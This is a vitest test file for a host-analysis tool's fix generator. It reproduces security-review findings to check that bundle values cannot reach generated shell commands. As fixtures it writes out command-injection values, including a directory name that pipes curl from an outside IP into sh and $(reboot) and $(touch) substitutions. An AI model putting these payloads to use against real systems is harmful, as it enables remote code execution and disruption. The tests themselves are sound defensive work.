/**
 * Strings from a bundle never become shell: the four reproductions of the security review, each
 * run through the real parsers and facts where the bundle carries the value, and a long
 * /proc/cmdline whose vfio-pci.ids lies past the 500 characters an evidence reference keeps.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeBundle } from '../../src/analyze.js';
import type { Fix } from '../../src/fixes/fix.js';
import { keepGpuDriverOff } from '../../src/fixes/gpu-driver.js';
import { changeKernelParams } from '../../src/fixes/kernel-params.js';
import { describeStep } from '../../src/report/fix-step-text.js';
import { builtinRules } from '../../rules/index.js';
import { fx, ROOT, sampleBundle } from '../helpers/bundle-from.js';
import { hostOf } from './helpers/host-of.js';
import { VARIANTS } from './helpers/variants.js';

/** Every command and edit script of a fix: what a person would run. */
const shellOf = (fix: Fix): string =>
  fix.steps
    .map((s) => describeStep(s).command)
    .filter((c): c is string => c !== null)
    .join('\n');
const notesOf = (fix: Fix): string => fix.steps.flatMap((s) => (s.kind === 'note' ? [s.text] : [])).join('\n');

describe('the security review reproductions', () => {
  it('an EFI directory named x;curl …|sh;# is never a path in a command', () => {
    const h = hostOf({
      evidence: {
        ...VARIANTS['centos-7-uefi']!.evidence,
        'efi-grub-cfg': { status: 'ok', text: fx('grub-cfg/debian-12-iommu.cfg'), name: 'x;curl -s 203.0.113.9|sh;#/grub.cfg' },
      },
    });
    expect(h.boot?.espGrubCfgs.map((c) => c.directory)).toEqual(['x;curl -s 203.0.113.9|sh;#']);
    const fix = changeKernelParams(h, { add: ['intel_iommu=on'], remove: [] }, 's');
    expect(shellOf(fix)).not.toContain('curl');
    expect(shellOf(fix)).not.toContain('/boot/efi/EFI/x');
  });

  it('an os-release ID x$(touch /tmp/p) never names a directory in a command', () => {
    const h = hostOf({
      evidence: { ...VARIANTS['centos-7-uefi']!.evidence, 'os-release': 'ID="x$(touch /tmp/p)"\nID_LIKE="rhel fedora"\nVERSION_ID="7"\n' },
    });
    expect([h.distroId, h.distro]).toEqual(['x$(touch /tmp/p)', 'rhel-like']);
    for (const fix of [changeKernelParams(h, { add: ['intel_iommu=on'], remove: [] }, 's')]) {
      expect(shellOf(fix)).not.toContain('touch');
      expect(notesOf(fix)).toMatch(/EFI directory of this distribution is not known/);
    }
  });

  it('a kernel parameter intel_iommu=$(reboot) from /proc/cmdline never reaches grubby, in a fix or in the plan', () => {
    const h = hostOf(VARIANTS['rhel-9.4-uefi-bls']!);
    const fix = changeKernelParams(h, { add: ['intel_iommu=on'], remove: ['intel_iommu=$(reboot)'] }, 's');
    expect(shellOf(fix)).not.toContain('$(reboot)');
    expect(notesOf(fix)).toContain('"intel_iommu=$(reboot)"');
    // Through the whole analysis: the bundle's command line carries the value, a rule asks to remove it.
    const analysis = analyzeBundle(
      sampleBundle('lab-intel-healthy', {
        'os-release': readFileSync(join(ROOT, 'test/fixtures/host-families/rhel-9.4/os-release'), 'utf8'),
        'default-grub': fx('default-grub/centos-stream-9-blscfg.txt'),
        cmdline:
          'BOOT_IMAGE=(hd0,gpt2)/vmlinuz-5.14.0-427.13.1.el9_4.x86_64 root=/dev/mapper/rhel-root ro intel_iommu=$(reboot) iommu=pt\n',
      }),
      { rules: builtinRules },
    );
    const all = analysis.findings.flatMap((f) => (f.fix ? [shellOf(f.fix)] : [])).join('\n');
    expect(all).not.toContain('$(reboot)');
  });

  it("a module name nouveau|x') ; touch /tmp/p ; echo (' never reaches the grep -E of a check", () => {
    const h = hostOf(VARIANTS['debian-12-bios']!);
    const fix = keepGpuDriverOff(h, ["nouveau|x') ; touch /tmp/p ; echo ('", 'nouveau'], '0000:42:00.0');
    expect(shellOf(fix)).not.toContain('touch');
    expect(shellOf(fix)).toContain("grep -E '^(nouveau) ' /proc/modules");
  });
});

describe('fixes take typed values, never the text of an evidence reference', () => {
  // The lab's real command line with the real kernel parameters of test/fixtures/cmdline/firecracker-6.18.txt
  // (the words before its `--`) put before its vfio-pci.ids, so that the ids lie past the 500 characters
  // an evidence reference keeps (src/facts/fact.ts MAX_REF_TEXT).
  const lab = readFileSync(join(ROOT, 'samples/lab-nvme-twins-cmdline-ids/evidence/proc/cmdline'), 'utf8').trim();
  const extra = fx('cmdline/firecracker-6.18.txt').split(' -- ')[0]!.trim();
  const long = `${lab.replace(' vfio-pci.ids=', ` ${extra} vfio-pci.ids=`)}\n`;

  it('the long command line puts vfio-pci.ids past character 500', () => {
    expect(long.indexOf('vfio-pci.ids=')).toBeGreaterThan(500);
  });

  it('the host-storage and twin fixes remove vfio-pci.ids by name, from the typed ids, whole', () => {
    const analysis = analyzeBundle(sampleBundle('lab-nvme-twins-cmdline-ids', { cmdline: long }), { rules: builtinRules });
    for (const rule of ['passthrough-of-host-storage', 'vfio-ids-capture-twin']) {
      const f = analysis.findings.find((x) => x.ruleId === rule && x.status === 'fail');
      expect(f?.fix, rule).toBeDefined();
      const edits = f!.fix!.steps.flatMap((s) => (s.kind === 'edit-file' && s.edit?.op === 'kernel-cmdline' ? [s.edit] : []));
      expect(edits.length, rule).toBeGreaterThan(0);
      for (const e of edits) {
        expect(e.op === 'kernel-cmdline' && e.removeNames).toEqual(['vfio_pci.ids']);
        // 1b36:0010 was the only id: nothing is added back, and nothing cut ("…") appears.
        expect(e.op === 'kernel-cmdline' && e.add).toEqual([]);
      }
      expect(JSON.stringify(f!.fix)).not.toContain('…"');
    }
  });
});
